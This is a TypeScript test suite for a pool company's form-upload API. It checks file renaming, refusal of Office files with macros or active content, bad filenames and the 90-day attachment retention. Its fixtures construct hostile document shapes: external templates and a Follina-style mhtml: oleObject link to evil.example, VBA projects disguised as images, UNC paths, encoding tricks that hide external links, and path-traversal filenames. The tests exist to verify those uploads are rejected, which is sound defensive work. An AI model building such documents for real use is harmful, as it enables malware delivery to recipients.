import { existsSync, readdirSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { deleteExpiredAttachments, startAttachmentRetention } from '../src/retention';
import { multipart, PDF, person, place, PNG, testApiPerTest, type TestApi } from './helpers';
import {
  compoundFile,
  docx,
  EXCEL_97,
  EXCEL_97_WITH_MACROS,
  EXCEL_97_WITH_OBJECT,
  OUTLOOK_MESSAGE,
  relationship,
  relationships,
  RELATIONSHIPS,
  WORD_97,
  WORD_97_WITH_MACROS,
  WORD_97_WITH_OBJECT,
  wordPackage,
} from './office-files';

const freshApi = testApiPerTest();

const DAY_MS = 24 * 60 * 60 * 1000;
const careers = { ...person, city: 'Laval', job: 'Technicien de piscines' };
const send = async (t: TestApi, url: string, body: Awaited<ReturnType<typeof multipart>>) =>
  t.app.inject({ method: 'POST', url, payload: body.payload, headers: { ...body.headers, 'x-firebase-appcheck': t.token() } });
const attachments = (t: TestApi) =>
  t.db.query<{ original_name: string; filename: string; media_type: string; storage_key: string; submission_id: string }>(
    'SELECT * FROM attachments ORDER BY filename',
  );

describe('uploads are named after what they are', () => {
  it('stores and mails a CV named cv.html that holds PDF bytes as cv.pdf, and says how long the files are kept', async () => {
    const t = await freshApi();
    const response = await send(
      t,
      '/forms/careers?lang=fr',
      await multipart(careers, [{ field: 'cv', name: 'cv.html', bytes: PDF, type: 'text/html' }]),
    );
    expect(response.statusCode).toBe(201);
    const [file] = await attachments(t);
    expect(file).toMatchObject({ original_name: 'cv.html', filename: 'cv.pdf', media_type: 'application/pdf' });
    expect(file!.storage_key).toBe(`${file!.submission_id}/0-cv.pdf`);
    expect(existsSync(join(t.config.attachmentsDir, file!.storage_key))).toBe(true);
    await t.outbox.drain();
    const notification = t.mail.state.sent.find((m) => m.to === 'ventes@piscinessoleil.local')!;
    expect(notification.raw).toContain('filename=cv.pdf');
    expect(notification.raw).toContain('Content-Type: application/pdf');
    expect(notification.raw).not.toContain('cv.html');
    expect(notification.raw.replace(/=\r?\n/g, '')).toContain(
      'Les pi=C3=A8ces jointes sont conserv=C3=A9es 90 jours sur le serveur, puis supprim=C3=A9es.',
    );
  });

  it('keeps a cleaned base name and takes the extension from the content', async () => {
    const t = await freshApi();
    const files = [
      { field: 'files', name: '../../Plan de cour: été?!.exe', bytes: PNG },
      { field: 'files', name: 'soumission.docx', bytes: WORD_97 },
      { field: 'files', name: '.bashrc', bytes: PDF },
    ];
    expect((await send(t, '/forms/quote?lang=fr', await multipart({ ...person, ...place }, files))).statusCode).toBe(201);
    expect((await attachments(t)).map((f) => [f.filename, f.media_type])).toEqual([
      ['Plan de cour_ été.png', 'image/png'],
      ['bashrc.pdf', 'application/pdf'],
      ['soumission.doc', 'application/msword'],
    ]);
  });
});

describe('Office files: Word and Excel without macros only', () => {
  const refused = {
    fr: 'Le fichier {name} n’est pas accepté\u00a0: seuls les documents Word et Excel sans macros le sont. Enregistrez-le au format .docx ou .xlsx, puis joignez-le de nouveau.',
    en: 'The file {name} is not accepted: only Word and Excel documents without macros are. Save it as .docx or .xlsx, then attach it again.',
  };

  it('refuses a compound file with a VBA project, one that is neither Word nor Excel, and a .docm or a .docx carrying vbaProject.bin', async () => {
    const t = await freshApi();
    const cases = [
      { name: 'contrat.doc', bytes: WORD_97_WITH_MACROS, lang: 'fr' as const },
      { name: 'budget.xls', bytes: EXCEL_97_WITH_MACROS, lang: 'en' as const },
      { name: 'message.doc', bytes: OUTLOOK_MESSAGE, lang: 'fr' as const },
      { name: 'lettre.docm', bytes: wordPackage({ macroEnabled: true, vba: true }), lang: 'fr' as const },
      { name: 'lettre.docx', bytes: wordPackage({ vba: true }), lang: 'en' as const },
    ];
    for (const file of cases) {
      const response = await send(
        t,
        `/forms/careers?lang=${file.lang}`,
        await multipart(careers, [{ field: 'cv', name: file.name, bytes: file.bytes }]),
      );
      expect(response.statusCode, file.name).toBe(415);
      expect(response.json().message, file.name).toBe(refused[file.lang].replace('{name}', file.name));
    }
    expect(await t.count('submissions')).toBe(0);
    expect(await t.count('attachments')).toBe(0);
  });

  it('takes a Word 97-2003 document and an Excel workbook without macros, and a .docx, each named by its real type', async () => {
    const t = await freshApi();
    for (const [name, bytes] of [
      ['cv.doc', WORD_97],
      ['cv.xls', EXCEL_97],
      ['cv', wordPackage()],
    ] as const) {
      const response = await send(t, '/forms/careers?lang=fr', await multipart(careers, [{ field: 'cv', name, bytes }]));
      expect(response.statusCode, name).toBe(201);
    }
    expect((await attachments(t)).map((f) => [f.filename, f.media_type])).toEqual([
      ['cv.doc', 'application/msword'],
      ['cv.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      ['cv.xls', 'application/vnd.ms-excel'],
    ]);
  });
});

describe('Office files that Word or Excel would make run or fetch something are refused, whatever their parts are named (ADR 0049)', () => {
  const refusedWords = {
    fr: (name: string) =>
      `Le fichier ${name} n’est pas accepté\u00a0: il contient des macros, des objets incorporés ou des liens vers l’extérieur (modèle, image liée, hyperlien) que Word ou Excel ouvrirait. Enregistrez-le en PDF, puis joignez-le de nouveau.`,
    en: (name: string) =>
      `The file ${name} is not accepted: it holds macros, embedded objects or links to outside addresses (a template, a linked image, a hyperlink) that Word or Excel would open. Save it as PDF, then attach it again.`,
  };
  const macroWords = {
    fr: (name: string) =>
      `Le fichier ${name} n’est pas accepté\u00a0: seuls les documents Word et Excel sans macros le sont. Enregistrez-le au format .docx ou .xlsx, puis joignez-le de nouveau.`,
    en: (name: string) =>
      `The file ${name} is not accepted: only Word and Excel documents without macros are. Save it as .docx or .xlsx, then attach it again.`,
  };
  const vbaProject = compoundFile({
    'VBA/dir': Buffer.alloc(64, 1),
    'VBA/ThisDocument': Buffer.alloc(64, 2),
    PROJECT: Buffer.from('ID="{0}"'),
  });

  const cases: { what: string; name: string; bytes: Buffer; rule: 'officeActiveContent' | 'officeFile' }[] = [
    {
      what: 'an external attachedTemplate (the finding: Word fetches the template, and its macros, on opening)',
      name: 'cv.docx',
      bytes: docx({
        parts: {
          'word/settings.xml':
            '<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
          'word/_rels/settings.xml.rels': relationships(
            relationship('rId1', 'attachedTemplate', 'http://evil.example/macros.dotm', 'External'),
          ),
        },
      }),
      rule: 'officeActiveContent',
    },
    {
      // CVE-2022-30190 ("Follina"), as Microsoft's advisory and the public samples describe it: an external oleObject
      // relationship whose target is an mhtml: address ending in !x-usc:, which Word fetches and hands to ms-msdt.
      what: 'an external oleObject mhtml: link (the CVE-2022-30190 shape)',
      name: 'cv.docx',
      bytes: docx({
        documentRelationships: [
          relationship('rId996', 'oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html', 'External'),
        ],
      }),
      rule: 'officeActiveContent',
    },
    { what: 'a .doc with a program in its ObjectPool', name: 'cv.doc', bytes: WORD_97_WITH_OBJECT, rule: 'officeActiveContent' },
    { what: 'an .xls with an embedded object’s MBD storage', name: 'budget.xls', bytes: EXCEL_97_WITH_OBJECT, rule: 'officeActiveContent' },
    {
      what: 'a .docx whose VBA project was renamed to a picture, with no content type or relationship naming it',
      name: 'cv.docx',
      bytes: docx({ parts: { 'word/media/image1.png': vbaProject } }),
      rule: 'officeActiveContent',
    },
    {
      what: 'a VBA project under another name, named by its relationship’s type',
      name: 'cv.docx',
      bytes: docx({
        documentRelationships: [
          `<Relationship Id="rId7" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="logo.gif"/>`,
        ],
        parts: { 'word/logo.gif': Buffer.from('GIF89a') },
      }),
      rule: 'officeFile',
    },
    {
      what: 'a VBA project under another name, named by its content type',
      name: 'cv.docx',
      bytes: docx({
        types: ['<Override PartName="/word/data.xml" ContentType="application/vnd.ms-office.vbaProject"/>'],
        parts: { 'word/data.xml': '<x/>' },
      }),
      rule: 'officeFile',
    },
    {
      what: 'an ActiveX control, by its content type',
      name: 'cv.docx',
      bytes: docx({
        types: ['<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'],
        parts: { 'word/activeX/activeX1.xml': '<ax/>' },
      }),
      rule: 'officeActiveContent',
    },
    {
      what: 'an embedded workbook (a zip package inside), under a picture’s name',
      name: 'cv.docx',
      bytes: docx({ parts: { 'word/media/image2.png': docx() } }),
      rule: 'officeActiveContent',
    },
    {
      what: 'an external hyperlink (any external relationship is refused: the issue’s rule, to the letter)',
      name: 'cv.docx',
      bytes: docx({ documentRelationships: [relationship('rId8', 'hyperlink', 'https://www.linkedin.com/in/marie', 'External')] }),
      rule: 'officeActiveContent',
    },
    {
      what: 'an external mode spelled with a character reference, in single quotes',
      name: 'cv.docx',
      bytes: docx({
        documentRelationships: [`<Relationship Id='rId9' Type='${RELATIONSHIPS}/image' Target='pixel.png' TargetMode = 'Exter&#110;al'/>`],
      }),
      rule: 'officeActiveContent',
    },
    {
      what: 'an external relationship in a relationships part written in UTF-16',
      name: 'cv.docx',
      bytes: docx({
        parts: {
          'word/_rels/document.xml.rels': Buffer.concat([
            Buffer.from([0xff, 0xfe]),
            Buffer.from(
              relationships(relationship('rId1', 'image', 'http://evil.example/a.png', 'External')).replace('UTF-8', 'UTF-16'),
              'utf16le',
            ),
          ]),
        },
      }),
      rule: 'officeActiveContent',
    },
    {
      what: 'a relationship left internal whose target is a network address',
      name: 'cv.docx',
      bytes: docx({ documentRelationships: [relationship('rId9', 'image', '\\\\evil.example\\share\\a.png')] }),
      rule: 'officeActiveContent',
    },
  ];

  it('refuses each shape with the visitor’s words, naming the file, on its field, and keeps nothing', async () => {
    const t = await freshApi();
    for (const [index, file] of cases.entries()) {
      const lang = index % 2 ? 'en' : 'fr';
      const response = await send(
        t,
        `/forms/careers?lang=${lang}`,
        await multipart(careers, [{ field: 'cv', name: file.name, bytes: file.bytes }]),
      );
      expect(response.statusCode, file.what).toBe(415);
      const message = (file.rule === 'officeFile' ? macroWords : refusedWords)[lang](file.name);
      expect(response.json(), file.what).toMatchObject({ error: file.rule, message, fields: [{ field: 'cv', rule: file.rule, message }] });
    }
    expect(await t.count('submissions')).toBe(0);
    expect(await t.count('attachments')).toBe(0);
    expect(await t.count('outbox')).toBe(0);
  });

  it('still takes a plain .docx (internal relationships, a picture, its properties), a .doc, an .xls and a PDF', async () => {
    const t = await freshApi();
    for (const [name, bytes] of [
      ['cv.docx', docx()],
      ['cv.doc', WORD_97],
      ['cv.xls', EXCEL_97],
      ['cv.pdf', PDF],
    ] as const) {
      const response = await send(t, '/forms/careers?lang=fr', await multipart(careers, [{ field: 'cv', name, bytes }]));
      expect(response.statusCode, name).toBe(201);
    }
    expect((await attachments(t)).map((f) => f.filename)).toEqual(['cv.doc', 'cv.docx', 'cv.pdf', 'cv.xls']);
  });
});

describe('file names that cannot be stored (ADR 0049)', () => {
  it('refuses a file name with NUL in words, on its field, showing the name with the character replaced, and keeps nothing', async () => {
    const t = await freshApi();
    for (const [lang, message] of [
      [
        'fr',
        'Le nom du fichier cv\ufffd.pdf contient un caractère qui ne peut pas être enregistré (caractère nul ou caractère Unicode incomplet). Renommez le fichier, puis joignez-le de nouveau.',
      ],
      [
        'en',
        'The name of the file cv\ufffd.pdf holds a character that cannot be stored (a null character or an incomplete Unicode character). Rename the file, then attach it again.',
      ],
    ] as const) {
      const response = await send(
        t,
        `/forms/careers?lang=${lang}`,
        await multipart(careers, [{ field: 'cv', name: 'cv\u0000.pdf', bytes: PDF }]),
      );
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ error: 'fileName', message, fields: [{ field: 'cv', rule: 'fileName', message }] });
    }
    expect(await t.count('submissions')).toBe(0);
    expect(await t.count('attachments')).toBe(0);
  });
});

describe('attachment retention', () => {
  it('deletes files and rows older than the retention period, keeps recent ones, the leads, and files whose notification is not sent yet', async () => {
    const t = await freshApi();
    const ids: string[] = [];
    for (let i = 0; i < 3; i += 1) {
      const body = await multipart(careers, [{ field: 'cv', name: `cv${i}.pdf`, bytes: PDF }]);
      ids.push((await send(t, '/forms/careers?lang=fr', body)).json().id as string);
    }
    await t.outbox.drain();
    // The third lead's store mail has not gone out (the mail server was down all along).
    await t.db.query(`UPDATE outbox SET sent_at = NULL WHERE submission_id = $1 AND kind = 'notification'`, [ids[2]]);
    const now = new Date('2027-03-01T12:00:00Z');
    const aged = (days: number) => new Date(now.getTime() - days * DAY_MS).toISOString();
    await t.db.query('UPDATE attachments SET created_at = $2 WHERE submission_id = $1', [ids[0], aged(91)]);
    await t.db.query('UPDATE attachments SET created_at = $2 WHERE submission_id = $1', [ids[1], aged(89)]);
    await t.db.query('UPDATE attachments SET created_at = $2 WHERE submission_id = $1', [ids[2], aged(200)]);
    const before = await attachments(t);

    expect(await deleteExpiredAttachments({ db: t.db, attachments: t.attachments, retentionDays: 90, now: () => now })).toBe(1);
    const after = await attachments(t);
    expect(after.map((f) => f.submission_id).sort()).toEqual([ids[1], ids[2]].sort());
    const old = before.find((f) => f.submission_id === ids[0])!;
    const onDisk = (key: string) => join(t.config.attachmentsDir, key);
    expect(existsSync(onDisk(old.storage_key))).toBe(false);
    expect(existsSync(dirname(onDisk(old.storage_key)))).toBe(false);
    for (const kept of after) expect(existsSync(onDisk(kept.storage_key))).toBe(true);
    expect(await t.count('submissions')).toBe(3);

    // Two days later, the second one's turn; the job runs a pass as soon as it starts.
    const job = startAttachmentRetention({
      db: t.db,
      attachments: t.attachments,
      retentionDays: 90,
      now: () => new Date(now.getTime() + 2 * DAY_MS),
      log: { error: () => undefined, info: () => undefined },
    });
    await job.run();
    await job.stop();
    expect((await attachments(t)).map((f) => f.submission_id)).toEqual([ids[2]]);
    expect(readdirSync(t.config.attachmentsDir)).toEqual([ids[2]]);
    expect(existsSync(join(t.config.attachmentsDir, ids[1]!))).toBe(false);
  });
});
